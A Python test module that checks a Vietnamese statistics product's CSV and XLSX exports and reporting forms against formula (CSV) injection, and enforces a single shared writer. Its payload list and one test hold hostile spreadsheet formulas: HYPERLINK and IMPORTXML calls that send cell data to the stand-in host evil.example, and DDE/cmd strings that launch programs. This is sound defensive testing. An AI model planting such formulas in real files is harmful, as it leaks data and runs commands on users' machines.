"""Formula injection (CSV injection) in every CSV and XLSX the product writes: the chart exports
(data and "Thông tin" sheets) and the reporting forms. A text cell that starts with a formula
trigger (``= + - @``, tab, carriage return, or their full-width forms) is written with a leading
apostrophe and as a string, whatever field it came from; numbers stay numbers. Every writer goes
through :mod:`exports.sheets`; a module that writes CSV or XLSX otherwise fails fin006."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date, datetime
from pathlib import Path
from unittest import mock

import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from data_access.catalogue import Indicator
from domain.periods import parse as parse_period
from exports.specs import ExportChart, Meta, Table
from settings import ROOT

TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1", "-1+2", "=1+1", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-2", "@x", "=", "-",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\x01=1+1",  # a control character XLSX cannot hold, in front of a formula
]
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda p, s: p + s, st.sampled_from(sorted(TRIGGERS)), st.text(max_size=20)),
    st.text(max_size=20),
)
numbers = st.integers(min_value=-10**12, max_value=10**12).filter(bool).map(lambda n: n / 100)
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def expected_text(value: str, xlsx: bool) -> str | None:
    """What a text cell must hold: the text (less what XML cannot hold), quoted when it would start
    a formula; an empty XLSX cell reads back as None."""
    value = _XML_ILLEGAL.sub("", value) if xlsx else value
    return ("'" + value if value[:1] in TRIGGERS else value) or (None if xlsx else "")


def assert_inert_xlsx(body: bytes) -> list:
    """No formula cell and no text cell a spreadsheet would evaluate, on any sheet (hidden ones too)."""
    book = load_workbook(io.BytesIO(body))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in TRIGGERS, (ws.title, cell.coordinate, cell.value)
    return book


def chart_of(name: str, area: str, note: str, column: str, title: str, unit: str, source: str, notes: list[str],
             value: float) -> ExportChart:
    ind = Indicator(id=1, code="X1", name_vi=name, name_en=name, group_code="G01", unit_vi=unit, unit_en=unit,
                    periodicity="M", agency_code="TK", agency_vi=source, agency_en=source, aggregation="sum",
                    weight_code=None, num_code=None, den_code=None, direction="up", levels=("nation",), decimals=1,
                    confidential=False, cumulative=False, headline=None, definition_vi=note, definition_en=note)
    data = pd.DataFrame({"area_key": ["VN", "01"], "area_name": [area, name], "period": ["202501", "202502"],
                         "value": [value, -abs(value)], "flag": [note, None], column: [title, "ok"],
                         "recorded_at": [datetime(2025, 2, 1, 7), datetime(2025, 3, 1, 7)]})
    meta = Meta(kind="trend", lang="vi", title=title, unit=unit, period=note, area=area, source=source,
                as_of=datetime(2025, 3, 1, 7), notes=tuple(notes), indicator=ind, stem="X1")
    return ExportChart(spec={"kind": "trend", "indicator": title}, figure=go.Figure(), data=data, meta=meta,
                       table=Table((), (), ()), decimals=1)


# --- the shared rule ----------------------------------------------------------------------------------------


def test_fin001_neutralise_quotes_text_triggers_and_leaves_numbers():
    from exports.sheets import neutralise

    for text in PAYLOADS[:-1] + ["-1", "-1.5", "+84 24 3823 4567"]:
        assert neutralise(text) == "'" + text, text
    for value in ("", "a=b", "'=1+1", " 1", "Cục Thống kê", "–", "202501", -1, -1.5, 0, 2.5, None,
                  date(2025, 1, 1), datetime(2025, 1, 1, 7), True):
        assert neutralise(value) == value, value
    assert isinstance(neutralise(-1.5), float) and isinstance(neutralise(-3), int)


# --- every writer, every text field -------------------------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=hostile, area=hostile, note=hostile, column=hostile, title=hostile, unit=hostile, source=hostile,
       notes=st.lists(hostile, max_size=3), value=numbers)
@example(name=PAYLOADS[0], area="=1+1", note="@x", column="-col", title="+t", unit="\tu", source=PAYLOADS[1],
         notes=["\r=1", "－1"], value=-2.5)
def test_fin002_chart_csv_and_xlsx_carry_no_live_formula(name, area, note, column, title, unit, source, notes, value):
    from exports.files import chart_csv, chart_xlsx

    chart = chart_of(name, area, note, column, title, unit, source, notes, value)
    table = list(csv.reader(io.StringIO(chart_csv(chart).decode("utf-8-sig"), newline="")))
    header, rows = table[0], table[1:]
    assert header[-2] == expected_text(column, xlsx=False)
    assert [r[1] for r in rows] == [expected_text(area, False), expected_text(name, False)]
    assert rows[0][4] == expected_text(note, False) and rows[1][4] == ""
    # numbers stay numbers: a negative value is written as a number, unquoted
    assert float(rows[0][3]) == value and float(rows[1][3]) == -abs(value) and rows[1][3].startswith("-")
    assert rows[0][6] == "2025-02-01 07:00:00"
    for row in table:
        for j, field in enumerate(row):
            assert field[:1] not in TRIGGERS or (j == 3 and row is not header and float(field) < 0), (j, field)

    book = assert_inert_xlsx(chart_xlsx(chart))
    data = list(book["Dữ liệu"].iter_rows(values_only=True))
    assert data[0][5] == expected_text(column, xlsx=True)
    assert [r[1] for r in data[1:]] == [expected_text(area, True), expected_text(name, True)]
    assert data[1][3] == value and data[2][3] == -abs(value)  # typed numbers, negative ones too
    assert isinstance(data[2][3], (int, float)) and not isinstance(data[2][3], bool)  # a number (-1.0 reads back as -1)
    info = {r[0]: r[1] for r in book["Thông tin"].iter_rows(values_only=True)}
    assert info["Biểu đồ"] == expected_text(title, True)
    assert info["Nguồn số liệu"] == expected_text(source, True)
    assert info["Đơn vị tính"] == expected_text(unit, True)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(unit_name=hostile, ind_name=hostile, uom=hostile, code=hostile, regime=hostile)
@example(unit_name=PAYLOADS[0], ind_name="=1+1", uom="-%", code="@A", regime="+R")
def test_fin003_reporting_form_carries_no_live_formula(unit_name, ind_name, uom, code, regime):
    from ingest import templates
    from ingest.templates import Owed, OwedRow, build_template

    spec = Owed(code, unit_name, parse_period("202507"), datetime(2025, 7, 25), [regime],
                [OwedRow(code, "01", "202507", ind_name, uom, regime), OwedRow("CPI_YOY", "01", "202507", "x", "%", regime)])
    with mock.patch.object(templates, "owed", lambda *a, **k: spec):
        body = build_template(None, code, "202507", now=datetime(2025, 7, 1))
    book = assert_inert_xlsx(body)
    first = next(book["Dữ liệu"].iter_rows(min_row=2, values_only=True))
    assert first[:5] == (expected_text(code, True), "01", "202507", expected_text(ind_name, True),
                         expected_text(uom, True))


# --- the reported case: a unit renamed to a formula -----------------------------------------------------------


def test_fin004_unit_renamed_to_a_formula_exports_as_text(databases, tmp_path):
    from sqlalchemy import create_engine

    from app import create_app
    from exports.specs import encode_spec
    from metadata import service
    from tests.conftest import make_settings, seeded_sqlite_copy

    url = seeded_sqlite_copy(databases, tmp_path)
    engine = create_engine(url)
    evil = '=HYPERLINK("http://evil.example/?d="&\'Dữ liệu\'!B2,"Cục Thống kê")'
    assert service.update(engine, "units", "TK", {"name_vi": evil, "name_en": "@SUM(1+1)*cmd|' /C calc'!A0"},
                          actor=service.Actor("test")).applied
    engine.dispose()
    server = create_app(make_settings(url, tmp_path))
    try:
        spec = encode_spec({"kind": "trend", "indicator": "EXPORTS", "areas": ["VN"], "start": "202501",
                            "end": "202512"})
        for lang, sheet, label, name in (("vi", "Thông tin", "Nguồn số liệu", evil),
                                         ("en", "About", "Source", "@SUM(1+1)*cmd|' /C calc'!A0")):
            res = server.test_client().get("/export/chart.xlsx", query_string={"spec": spec, "lang": lang})
            assert res.status_code == 200
            book = assert_inert_xlsx(res.data)
            info = {r[0]: r[1] for r in book[sheet].iter_rows(values_only=True)}
            assert info[label] == "'" + name
    finally:
        server.extensions["warehouse"].dispose()


# --- one writer layer ---------------------------------------------------------------------------------------

WRITER = "exports/sheets.py"
# Modules that may write CSV without the shared writer, and why: none of these is a file a person opens.
ALLOWED = {
    "ingest/seed.py": "csv.writer feeds PostgreSQL's COPY FROM STDIN (a load stream; quoting would change the data)",
    "ingest/demo.py": "DataFrame.to_csv into the demo data's sha256 (never written out)",
    "alerts/store.py": "csv.writer feeds PostgreSQL's COPY of the alerts raised into a temporary table (a load "
                       "stream, never a file for a person; quoting would change the data)",
    "bench/upload_bombs.py": "builds the hostile workbooks the benchmark uploads (never handed to a person)",
}
_CALLS = {"to_csv", "to_excel", "ExcelWriter", "Workbook", "writer", "DictWriter"}
_MODULES = {"csv": {"writer", "DictWriter"}, "openpyxl": {"Workbook"}, "pandas": {"ExcelWriter"}}


def writes_spreadsheets(source: str) -> list[str]:
    """Where ``source`` writes CSV or XLSX itself: calls of ``Workbook(``, ``csv.writer(``,
    ``csv.DictWriter(``, ``.to_csv(``, ``.to_excel(``, ``ExcelWriter(``, and imports of those names
    or of ``xlsxwriter``."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
            if name in _CALLS and (name != "writer" or isinstance(func, ast.Attribute)):
                found.append(f"line {node.lineno}: {name}(")
        elif isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            bad = {a.name for a in node.names} & _MODULES.get(top, set())
            if bad or top == "xlsxwriter":
                found.append(f"line {node.lineno}: from {node.module} import {', '.join(sorted(bad)) or '…'}")
        elif isinstance(node, ast.Import) and any(a.name.split(".")[0] == "xlsxwriter" for a in node.names):
            found.append(f"line {node.lineno}: import xlsxwriter")
    return found


def test_fin005_the_check_sees_every_way_of_writing():
    assert sorted(writes_spreadsheets("from openpyxl import Workbook\nwb = Workbook()\n")) == \
        ["line 1: from openpyxl import Workbook", "line 2: Workbook("]
    for code in ("import csv\ncsv.writer(f)\n", "import csv\ncsv.DictWriter(f, [])\n", "df.to_csv(f)\n",
                 "df.to_excel(f)\n", "import openpyxl\nopenpyxl.Workbook()\n", "import xlsxwriter\n",
                 "from csv import writer\n", "pd.ExcelWriter(f)\n"):
        assert writes_spreadsheets(code), code
    for code in ("from openpyxl import load_workbook\nload_workbook(f)\n", "csv.reader(f)\n", "writer = 1\n"):
        assert not writes_spreadsheets(code), code


def test_fin006_every_csv_and_xlsx_goes_through_the_shared_writer():
    root = Path(ROOT)
    offenders = {}
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel.split("/")[0] in (".venv", "tests", "migrations") or rel == WRITER or rel in ALLOWED:
            continue
        found = writes_spreadsheets(path.read_text(encoding="utf-8"))
        if found:
            offenders[rel] = found
    assert not offenders, f"write CSV/XLSX through {WRITER} (or add the module to ALLOWED with a reason): {offenders}"
    for rel in ALLOWED:  # the allow-list holds only modules that still need it
        assert writes_spreadsheets((root / rel).read_text(encoding="utf-8")), rel
    assert writes_spreadsheets((root / WRITER).read_text(encoding="utf-8"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_fin007_routes_files_are_unchanged_for_plain_data(fmt, databases, tmp_path):
    """A control: ordinary names are written as they are (no apostrophe where none is needed)."""
    from app import create_app
    from exports.specs import encode_spec
    from tests.conftest import make_settings, seeded_url_for

    server = create_app(make_settings(seeded_url_for("sqlite", databases), tmp_path))
    try:
        spec = encode_spec({"kind": "ranking", "indicator": "EXPORTS", "period": "202610"})
        body = server.test_client().get(f"/export/chart.{fmt}", query_string={"spec": spec}).data
    finally:
        server.extensions["warehouse"].dispose()
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    else:
        book = assert_inert_xlsx(body)
        cells = [c for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row]
    texts = [c for c in cells if isinstance(c, str)]
    assert "Hà Nội" in texts and not any(c.startswith("'") for c in texts)
